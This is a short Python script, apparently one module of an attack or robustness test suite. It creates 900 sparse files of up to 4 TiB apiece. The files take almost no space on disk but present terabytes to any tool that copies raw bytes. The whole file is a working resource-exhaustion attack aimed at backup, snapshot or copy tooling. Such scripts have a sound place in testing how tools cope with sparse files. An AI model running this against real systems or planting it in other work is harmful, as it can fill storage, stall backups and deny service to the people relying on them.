"""Hundreds of sparse files, each as large as allowed: next to nothing inside, terabytes for whoever copies bytes."""
import os

from attack import done

size = 1 << 42
made = 0
while made < 900:
    fd = os.open("sparse-%03d" % made, os.O_CREAT | os.O_RDWR)
    while size > 1 << 20:
        try:
            os.ftruncate(fd, size)
            break
        except OSError:
            size >>= 1
    os.close(fd)
    made += 1
done("%d of %d MiB" % (made, size >> 20))
